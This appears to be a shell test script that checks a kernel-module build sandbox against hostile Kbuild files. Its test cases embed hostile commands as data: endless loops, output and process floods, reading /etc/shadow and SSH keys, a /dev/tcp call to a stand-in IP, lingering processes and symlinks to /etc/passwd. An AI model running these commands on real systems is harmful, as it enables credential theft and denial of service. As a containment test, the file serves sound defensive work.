#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
test_description='drivers whose Makefiles are hostile: each is blamed, none gets out'
. "$(dirname "$0")/../test-lib.sh"
. "$ROOT/tests/fake-kernel.sh"

test-tool sandbox -- true 2>/dev/null || test_skip_all 'no sandbox here'
fake_kernel k1 1 || exit 1

# hostile NAME SHELL: a driver whose Kbuild file runs SHELL while it is read
hostile() {
  widget_driver "$1" && printf 'obj-m := widget.o\nx := $(shell %s)\n' "$2" >"$1/Kbuild"
}

test_expect_success 'a Makefile that never ends' '
  hostile forever "while :; do :; done" &&
  test_expect_code 1 test-tool kbuild --wall 2 forever k1 >out.json &&
  test_json out.json .blame "it did not end within 2 s"
'

test_expect_success 'a compiler that prints without end' '
  hostile loud "yes loud >&2" &&
  test_expect_code 1 test-tool kbuild --wall 120 loud k1 >out.json &&
  test_json out.json .blame "it printed more than 64 MiB"
'

# Bounded: should the limit be missing, the machine stays.
test_expect_success 'a flood of processes' '
  hostile bomb "for i in \$\$(seq 700); do sleep 60 & done; wait" &&
  test_expect_code 1 test-tool kbuild --wall 60 bomb k1 >out.json &&
  test_json out.json .blame "it had more than 512 processes at once"
'

test_expect_success 'writing and reading outside' '
  echo secret >outside &&
  hostile thief "cat $TRASH/outside /etc/shadow /root/.ssh/* >\$(src)/stolen; echo x >$TRASH/outside; touch $TRASH/here" &&
  test-tool kbuild --keep kept thief k1 >out.json 2>&1 &&
  test_path_is_missing here &&
  echo secret >want && test_cmp want outside &&
  test_must_fail test -s kept/tree/stolen
'

test_expect_success 'the network' '
  hostile net "bash -c \"echo x >/dev/tcp/192.0.2.1/80\" && touch \$(src)/reached" &&
  test-tool kbuild --keep kept2 net k1 >out.json &&
  test_path_is_missing kept2/tree/reached
'

test_expect_success 'processes that stay behind' '
  hostile stay "setsid sleep 87654 >/dev/null 2>&1 &" &&
  test-tool kbuild stay k1 >out.json &&
  ! grep -sl 8765[4] /proc/[0-9]*/cmdline | grep -v "/$$/"
'

test_expect_success 'forged and broken records' '
  hostile forge "cd \$\$KPORT_CAPTURE_DIR; ln -s /etc/passwd 0.rec; mkfifo 1.rec; head -c 100000 /dev/urandom >2.rec; printf \"kport-cc 1\\\\\\\\ncwd 99999999\\\\\\\\nx\" >3.rec; mkdir 4.rec" &&
  test-tool kbuild --wall 60 forge k1 >out.json &&
  test_json out.json .succeeded true &&
  test_json out.json ".units#" 1
'

test_expect_success 'a module that is a link to somewhere else' '
  hostile fakeko "ln -sf /etc/passwd \$(src)/passwd.ko" &&
  test-tool kbuild fakeko k1 >out.json &&
  test_json out.json ".modules#" 1
'

test_done
